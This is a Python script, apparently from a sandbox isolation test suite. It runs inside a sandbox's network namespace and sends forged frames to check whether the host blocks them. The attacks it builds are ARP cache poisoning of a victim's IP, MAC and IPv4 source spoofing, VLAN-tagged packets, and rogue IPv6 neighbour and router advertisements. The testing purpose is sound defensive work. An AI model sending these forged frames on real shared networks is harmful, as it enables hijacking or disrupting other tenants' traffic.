# Sends forged frames from inside a sandbox's network namespace (run with `ip netns exec`, as
# root: a raw socket, as a sandbox with CAP_NET_RAW would have). Issue 19 item 3: what a hostile
# sandbox would send to take over another tenant's address or confuse the host.
#   forge-frames.py <ifname> <attack> <json args>
# Every frame carries args["marker"] (in the payload, and as Ethernet trailer bytes for ARP), so a
# capture can count the ones that got through. IP packets carry it inside: the bridge's netfilter
# trims what follows an IP packet before the host sees it. Frames are sent `repeat` times, `interval` seconds apart.
import json, socket, struct, sys, time

ifname, attack, args = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
marker = args["marker"].encode()


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def ip4(s):
    return socket.inet_aton(s)


def ip6(s):
    return socket.inet_pton(socket.AF_INET6, s)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def eth(dst, src, ethertype, payload):
    return mac(dst) + mac(src) + struct.pack("!H", ethertype) + payload + marker


def arp(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac(sha) + ip4(spa) + mac(tha) + ip4(tpa)


def udp4(src, dst, payload):
    udp = struct.pack("!HHHH", 40000, 9, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + udp


def icmp6(src, dst, body):
    pseudo = ip6(src) + ip6(dst) + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + ip6(src) + ip6(dst) + body


a = args
if attack == "arp-reply-victim-ip":  # "victim's IP is at my MAC", to the gateway
    frame = eth(a["gwMac"], a["myMac"], 0x0806, arp(2, a["myMac"], a["victimIp"], a["gwMac"], a["gwIp"]))
elif attack == "arp-request-victim-ip":  # a broadcast request claiming the victim's IP
    frame = eth("ff:ff:ff:ff:ff:ff", a["myMac"], 0x0806, arp(1, a["myMac"], a["victimIp"], "00:00:00:00:00:00", a["gwIp"]))
elif attack == "spoofed-mac":  # the victim's MAC and IP, consistently: only the port gives it away
    frame = eth("ff:ff:ff:ff:ff:ff", a["victimMac"], 0x0806, arp(1, a["victimMac"], a["victimIp"], "00:00:00:00:00:00", a["gwIp"]))
elif attack == "spoofed-mac-ipv4":
    frame = eth(a["gwMac"], a["victimMac"], 0x0800, udp4(a["victimIp"], a["gwIp"], marker))
elif attack == "own-ipv4":  # the control: a packet that is exactly what the port is pinned to
    frame = eth(a["gwMac"], a["myMac"], 0x0800, udp4(a["myIp"], a["gwIp"], marker))
elif attack == "vlan-ipv4":  # own MAC and address, inside an 802.1Q tag (VLAN 7)
    frame = eth(a["gwMac"], a["myMac"], 0x8100, struct.pack("!HH", 7, 0x0800) + udp4(a["myIp"], a["gwIp"], marker))
elif attack == "spoofed-ipv4":  # own MAC, victim's source address
    frame = eth(a["gwMac"], a["myMac"], 0x0800, udp4(a["victimIp"], a["gwIp"], marker))
elif attack in ("ipv6-na", "ipv6-ra"):
    src = a["myLinkLocal"]
    if attack == "ipv6-na":  # unsolicited override NA: "the gateway's link-local is at my MAC"
        body = struct.pack("!BBHI", 136, 0, 0, 0xA0000000) + ip6(a["target"])
        body += struct.pack("!BB", 2, 1) + mac(a["myMac"])
    else:  # an RA with a prefix to autoconfigure (router lifetime 0: no default route)
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
        body += struct.pack("!BB", 1, 1) + mac(a["myMac"])
        body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 60, 30, 0) + ip6(a["prefix"])
    # The marker as an ND option of an unassigned type, which receivers ignore (RFC 4861 4.6).
    opt = marker + b"\0" * (-(len(marker) + 2) % 8)
    body += struct.pack("!BB", 253, (len(opt) + 2) // 8) + opt
    frame = eth("33:33:00:00:00:01", a["myMac"], 0x86DD, icmp6(src, "ff02::1", body))
else:
    sys.exit("unknown attack " + attack)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
for _ in range(int(a.get("repeat", 1))):
    s.send(frame)
    time.sleep(float(a.get("interval", 0)))
print("sent")
